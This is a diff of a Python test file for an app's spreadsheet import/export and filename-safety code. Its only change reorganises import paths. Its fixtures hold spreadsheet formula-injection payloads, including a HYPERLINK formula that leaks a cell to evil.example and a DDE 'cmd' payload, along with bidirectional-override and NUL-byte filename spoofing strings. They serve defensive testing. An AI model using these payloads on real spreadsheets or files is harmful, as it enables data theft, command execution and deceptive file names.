@@ -9,15 +9,15 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 from app.models.validation import ValidationFailed, forbidden_character
-from app.reports.xlsx_export import export_database, export_list
-from app.reports.xlsx_import import plan_import, write_template
-from app.reports.xlsx_read import ImportRefused
 from app.services import ListQuery
-from app.services.attachments import attach_file
 from app.services.errors import FieldDeskError
-from app.services.export import export_json_text
-from app.services.filenames import is_executable, real_extension, safe_copy_name, visible_name
-from app.services.seed import country_id
+from app.services.profile.attachments import attach_file
+from app.services.profile.filenames import is_executable, real_extension, safe_copy_name, visible_name
+from app.services.store.export import export_json_text
+from app.services.store.seed import country_id
+from app.spreadsheets.export import export_database, export_list
+from app.spreadsheets.importer import plan_import, write_template
+from app.spreadsheets.read import ImportRefused
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A3,"click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "=1+1"]
 HOSTILE = ["Ali \u202eexe.live Hassan", "Ali \u2067Hassan", "a\u202ab", "a\u202db", "a\u2069b", "NUL\x00name",
